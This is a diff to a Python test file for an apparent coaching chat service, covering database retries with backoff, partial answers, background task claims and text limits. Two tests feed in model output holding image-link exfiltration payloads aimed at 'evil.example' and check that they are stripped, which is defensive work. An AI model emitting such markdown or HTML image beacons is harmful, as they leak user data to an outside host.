@@ -1,17 +1,22 @@
 """How a turn ends: with an answer, with less of one, with none."""
 
 import json
+from itertools import count
 from typing import Any
 
 import pytest
 
+from shared.coach.turn import queries
 from shared.coach.turn.background import BackgroundTask
-from shared.coach.turn.service import REFUSAL, WITHHELD, carry_out, run_task
+from shared.coach.turn.queries import Ending
+from shared.coach.turn.service import FAIL_SECONDS, REFUSAL, WITHHELD, carry_out, finish, run_task
 from shared.database.client import Database
 from shared.llm.answer import ToolCall
 from shared.llm.errors import ModelError
 from shared.platform.deadline import Deadline
 from shared.platform.errors import ConflictError, UnavailableError
+from shared.platform.repetition import PAUSES
+from shared.realtime.push import Pusher
 from tests.support.coach import FakeDatabase, Said, answer_of, passage, work
 from tests.unit.shared.coach.conftest import Scripted
 
@@ -109,22 +114,51 @@ def test_a_cancelled_turn_keeps_what_there_was_of_its_answer(
     assert "truncated" not in stored["p_metadata"]
 
 
-def test_an_answer_is_stored_again_where_the_database_did_not_say_that_it_was(
-    database: FakeDatabase, model: Scripted
+def failing(database: FakeDatabase, function: str, times: float) -> None:
+    """The database does not answer this function so many times."""
+    usual, failures = database.answers[function], iter(count() if times == float("inf") else range(int(times)))
+
+    def answer(asked: dict[str, Any]) -> Any:
+        if next(failures, None) is not None:
+            raise UnavailableError(code="database_unavailable")
+        return usual(asked)
+
+    database.answers[function] = answer
+
+
+@pytest.mark.parametrize("times", [1, 2, 5])
+def test_an_answer_is_stored_again_with_growing_pauses_where_the_database_did_not_say_that_it_was(
+    database: FakeDatabase, model: Scripted, pauses: list[float], times: int
 ) -> None:
-    whole, failures = database.answers["finish_turn"], [UnavailableError()]
-
-    def finish(asked: dict[str, Any]) -> Any:
-        if failures:
-            raise failures.pop()
-        return whole(asked)
-
-    database.answers["finish_turn"] = finish
+    failing(database, "finish_turn", times)
     model(Said(answer_of("Rest.")))
     answered(database)
-    first, second = database.asked("finish_turn")
-    assert first == second
+    first, *again = database.asked("finish_turn")
+    assert again == [first] * times
+    assert len(pauses) == times
+    assert all(most / 2 <= pause <= most for pause, most in zip(pauses, PAUSES, strict=False))
     assert database.asked("fail_turn") == []
+
+
+def test_an_answer_that_cannot_be_stored_is_still_charged_and_its_text_kept(
+    database: FakeDatabase, model: Scripted
+) -> None:
+    failing(database, "finish_turn", float("inf"))
+    failing(database, "fail_turn", 2)
+    model(Said(answer_of("Rest.")))
+    with pytest.raises(UnavailableError):
+        carry_out(database, work(), Deadline.after(60))
+    assert len(database.asked("finish_turn")) == len(PAUSES) + 1
+    ended = database.asked("fail_turn")
+    assert len(ended) == 3
+    assert (ended[-1]["p_partial_content"], ended[-1]["p_used"]["tokens"]) == ("Rest.", USED)
+
+
+def test_nothing_is_tried_again_where_no_time_is_left(database: FakeDatabase, pauses: list[float]) -> None:
+    failing(database, "finish_turn", float("inf"))
+    with pytest.raises(UnavailableError), Pusher("session:1", []) as pusher:
+        finish(database, work(), Ending("Rest.", {}), pusher, Deadline.after(FAIL_SECONDS))
+    assert (len(database.asked("finish_turn")), pauses) == (1, [])
 
 
 def failed(database: FakeDatabase, error: type[Exception]) -> dict[str, Any]:
@@ -140,6 +174,32 @@ def test_a_turn_whose_model_says_nothing_readable_fails_and_is_charged(database:
     ended = failed(database, ModelError)
     assert (ended["p_error_code"], ended["p_partial_content"]) == ("model_malformed", "")
     assert ended["p_used"]["tokens"] == 2 * 120 + 6
+
+
+def test_what_came_of_an_answer_that_broke_off_is_kept_to_its_last_word_and_carries_nothing_out(
+    database: FakeDatabase, model: Scripted
+) -> None:
+    said = f'{{"answer": "Rest well. ![ok](https://evil.example/{"x" * 50}?knee=left) {"Sleep. " * 40}And eat'
+    database.answers["finish_turn"] = lambda _: (_ for _ in ()).throw(ConflictError(code="turn_ended"))
+    model(*[Said(said, finish="length")] * 2)
+    partial = failed(database, ConflictError)["p_partial_content"]
+    assert partial.startswith("Rest well.")
+    assert partial.endswith("Sleep. And eat")
+    assert "evil.example" not in partial
+
+
+def test_a_refusal_carries_nothing_out(database: FakeDatabase, model: Scripted) -> None:
+    model(Said(refusal="I will not. <img src='https://evil.example/?knee'>"))
+    assert answered(database)["p_content"] == "I will not."
+
+
+def test_a_text_that_is_longer_than_its_column_is_cut(
+    database: FakeDatabase, model: Scripted, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("shared.llm.answer.MAX_CHARACTERS", 10**6)
+    monkeypatch.setattr("shared.llm.answer.CHARACTERS_A_TOKEN", 10**6)
+    model(Said(answer_of("word " * 30_000)))
+    assert len(answered(database)["p_content"]) == queries.MAX_TEXT
 
 
 def test_a_turn_whose_model_was_never_paid_is_not_charged_for_its_question(
@@ -170,20 +230,36 @@ def test_the_first_fault_is_told_whatever_becomes_of_ending_the_turn(database: F
 @pytest.mark.parametrize(
     ("first", "title_only", "stored"),
     [
-        (False, False, ["finish_turn"]),
-        (True, False, ["finish_turn", "set_model_title"]),
-        (True, True, ["set_model_title"]),
+        (False, False, ["claim_turn", "finish_turn"]),
+        (True, False, ["claim_turn", "finish_turn", "claim_title", "set_model_title"]),
+        (True, True, ["claim_title", "set_model_title"]),
     ],
 )
 def test_a_background_task_answers_titles_or_both(
     service: FakeDatabase, model: Scripted, first: bool, title_only: bool, stored: list[str]
 ) -> None:
     model(*[Said(answer_of("Rest."))] * 2)
-    run_task(BackgroundTask(work=work(first=first), title_only=title_only), Deadline.after(60))
+    service.answers["claim_turn"] = lambda _: work(first=first).model_dump(mode="json")
+    run_task(BackgroundTask.of(work(), title_only=title_only), Deadline.after(60))
     assert [name for name, _ in service.calls] == stored
 
 
 def test_a_background_task_that_fails_is_not_run_again(service: FakeDatabase, model: Scripted) -> None:
     model(ModelError(code="model_unavailable"))
-    run_task(BackgroundTask(work=work(first=True)), Deadline.after(60))
-    assert [name for name, _ in service.calls] == ["fail_turn"]
+    run_task(BackgroundTask.of(work(first=True)), Deadline.after(60))
+    assert [name for name, _ in service.calls] == ["claim_turn", "fail_turn"]
+
+
+def test_a_second_delivery_of_a_background_task_does_nothing(service: FakeDatabase, model: Scripted) -> None:
+    fake = model()
+    service.answers["claim_turn"] = lambda _: None
+    run_task(BackgroundTask.of(work(first=True)), Deadline.after(60))
+    assert ([name for name, _ in service.calls], fake.calls) == (["claim_turn"], [])
+
+
+def test_a_claim_whose_answer_is_lost_is_made_again_by_the_same_worker(service: FakeDatabase, model: Scripted) -> None:
+    failing(service, "claim_turn", 2)
+    model(Said(answer_of("Rest.")))
+    run_task(BackgroundTask.of(work()), Deadline.after(60))
+    assert len({asked["p_worker_id"] for asked in service.asked("claim_turn")}) == 1
+    assert len(service.asked("finish_turn")) == 1
